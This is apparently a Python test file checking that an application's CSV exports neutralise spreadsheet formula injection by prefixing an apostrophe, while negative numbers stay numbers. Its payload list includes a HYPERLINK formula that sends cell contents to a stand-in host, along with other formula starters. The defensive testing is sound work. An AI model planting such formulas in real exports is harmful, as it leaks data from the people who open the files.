"""No CSV that CRBM writes carries a formula a spreadsheet would run (core/web/csv_export.py):
the list export and the exports a purge leaves behind."""
import csv
import io
import zipfile

from core.kernel.records import Query
from tests.web import test_web_views

client = test_web_views.client  # signed in as the admin, with the CSRF token at hand

# the classic payloads: a formula, a link that leaks data, and the other starting characters
PAYLOADS = ['=1+1', '=HYPERLINK("http://x.example/?"&A1,"y")', "+1", "-1+2", "@SUM(A1)",
            "\t=1", "\r=1"]


def with_names(site, admin, module: str, names: list[str], **values) -> list[str]:
    """Records of ``module`` whose name is exactly each of ``names``, with ``values``
    (written to the database as stored or imported data would be: the forms would trim the
    TAB and the CR, and gadgets' quantity may not be negative any more)."""
    ids = site.records.create_many(module, [{"name": f"n{i}"} for i in range(len(names))],
                                   admin)
    table = site.tables.tables[site.registry.module(module).table]
    with site.engine.begin() as conn:
        for record_id, name in zip(ids, names, strict=True):
            conn.execute(table.update().where(table.c.id == record_id)
                         .values(name=name, **values))
    return ids


def test_the_list_export_escapes_formulas_and_keeps_numbers_numbers(client, site, admin):
    with_names(site, admin, "gadgets", PAYLOADS, quantity=-7)
    with_names(site, admin, "gadgets", ["Plain"], quantity=-12)
    export = client.post("/m/gadgets/action", data={"_csrf": client.csrf, "action": "export",
                                                    "all": "1"})
    header, *rows = list(csv.reader(io.StringIO(export.text, newline="")))
    assert header[0] == "Name" and header[3] == "Quantity"
    names = sorted(row[0] for row in rows)
    assert names == sorted(["'" + p for p in PAYLOADS] + ["Plain"])
    # a number field's negative number is a number, not text: no prefix
    assert sorted(row[3] for row in rows) == ["-12"] + ["-7"] * 7


def test_purge_exports_escape_formulas(site, admin):
    site.studio.create_module(admin, "vehicles", "Vehicles", "Vehicle", "Fleet")
    site.studio.save_field(admin, "vehicles", "mileage", {"type": "integer"}, new=True)
    with_names(site, admin, "vehicles", PAYLOADS, mileage=-5)
    site.studio.remove_module(admin, "vehicles", purge=True)
    [export] = (site.folder / "packs" / ".exports").glob("studio_vehicles-*.zip")
    with zipfile.ZipFile(export) as archive:
        text = archive.read("vehicles.csv").decode()
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    name, mileage = header.index("name"), header.index("mileage")
    assert sorted(row[name] for row in rows) == sorted("'" + p for p in PAYLOADS)
    assert {row[mileage] for row in rows} == {"-5"}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_an_export_of_what_is_not_a_formula_is_unchanged(client, site, admin):
    site.records.create("gadgets", {"name": "Ann O'Neil = boss", "quantity": 3}, admin)
    export = client.post("/m/gadgets/action", data={"_csrf": client.csrf, "action": "export",
                                                    "all": "1"})
    [_, row] = list(csv.reader(io.StringIO(export.text, newline="")))
    assert row[0] == "Ann O'Neil = boss" and row[3] == "3"
    assert site.records.count("gadgets", admin, Query()) == 1
